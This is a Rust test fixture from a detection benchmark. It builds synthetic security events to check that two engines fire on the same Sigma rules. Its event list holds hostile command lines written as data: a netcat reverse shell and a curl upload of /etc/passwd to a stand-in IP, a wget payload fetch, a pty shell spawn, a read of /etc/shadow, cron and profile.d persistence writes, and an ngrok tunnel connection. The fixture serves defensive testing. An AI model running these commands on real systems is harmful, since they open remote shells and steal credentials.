//! A handful of hostile events, one or two per Sigma category, to check that both engines see the
//! same thing where the benchmark mix (steady-state function traffic) raises nothing: the mix
//! matches no SigmaHQ Linux rule, so without these the match columns would compare zero with zero.
//! Written for this benchmark; not timed.

use fnwarden_event::{Ancestor, Endpoint, Event, EventKind, FileAction, NetAction, Process, Timestamp};

/// After the mix's last event, so that event time keeps moving forward for fnwarden.
const START_NS: i64 = 1_800_000_000_000_000_000;

/// An executable and its argv.
type Command<'a> = (&'a str, &'a [&'a str]);

fn process(exe: &str, args: &[&str], parent: Command<'_>) -> Process {
    Process {
        pid: 4242,
        ppid: 4200,
        uid: Some(0),
        user: "root".into(),
        exe: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        cwd: "/tmp".into(),
        ancestors: vec![Ancestor {
            pid: 4200,
            exe: parent.0.into(),
            name: parent.0.rsplit('/').next().unwrap_or(parent.0).into(),
            args: parent.1.iter().map(|s| s.to_string()).collect(),
        }],
        ..Default::default()
    }
}

fn event(i: usize, kind: EventKind, p: Process) -> Event {
    let mut e = Event::new(kind, Timestamp(START_NS + i as i64 * 1_000_000));
    e.source = "probe".into();
    e.host = Some("host-1".into());
    e.process = Some(p);
    e
}

/// The probe events, normalised.
pub fn events() -> Vec<Event> {
    let python: Command<'_> = ("/var/lang/bin/python3.11", &["python3.11", "-m", "awslambdaric", "app.handler"]);
    let shell: Command<'_> = ("/usr/bin/bash", &["bash", "-c", "x"]);
    let execs: &[(&str, &[&str], Command<'_>)] = &[
        ("/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"], python),
        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], python),
        ("/usr/bin/curl", &["curl", "-s", "-T", "/etc/passwd", "http://198.51.100.7/u"], shell),
        ("/usr/bin/wget", &["wget", "http://198.51.100.7/x", "-O", "/tmp/x"], shell),
        ("/usr/bin/python3", &["python3", "-c", "import pty;pty.spawn('/bin/bash')"], shell),
        ("/usr/bin/crontab", &["crontab", "-l"], shell),
        ("/usr/bin/cat", &["cat", "/etc/shadow"], shell),
        ("/usr/bin/chmod", &["chmod", "+x", "/dev/shm/run"], shell),
        ("/dev/shm/run", &["/dev/shm/run"], shell),
        ("/usr/bin/uname", &["uname", "-a"], shell),
    ];
    let mut out = Vec::new();
    for (exe, args, parent) in execs {
        out.push(event(out.len(), EventKind::Execve, process(exe, args, *parent)));
    }
    for (exe, path) in [("/usr/bin/python3", "/etc/cron.d/update"), ("/usr/bin/wget", "/tmp/x"), ("/usr/bin/bash", "/etc/profile.d/x.sh")] {
        let mut e = event(out.len(), EventKind::Write, process(exe, &[exe], python));
        e.file = Some(FileAction { path: path.into(), flags: 0o1101, bytes: Some(64), ..Default::default() });
        out.push(e);
    }
    let mut e = event(out.len(), EventKind::Open, process("/usr/bin/cat", &["cat", "/etc/shadow"], shell));
    e.file = Some(FileAction { path: "/etc/shadow".into(), ..Default::default() });
    out.push(e);
    for (exe, port, host) in [("/usr/bin/bash", 4444, None), ("/usr/bin/ssh", 22, Some("tunnel.us.ngrok.com"))] {
        let mut e = event(out.len(), EventKind::Connect, process(exe, &[exe], python));
        e.net = Some(NetAction {
            local: Some(Endpoint { ip: [169, 254, 76, 1].into(), port: 40001 }),
            remote: Some(Endpoint { ip: [198, 51, 100, 7].into(), port }),
            remote_host: host.map(str::to_owned),
            ..Default::default()
        });
        out.push(e);
    }
    for e in &mut out {
        e.normalize();
    }
    out
}
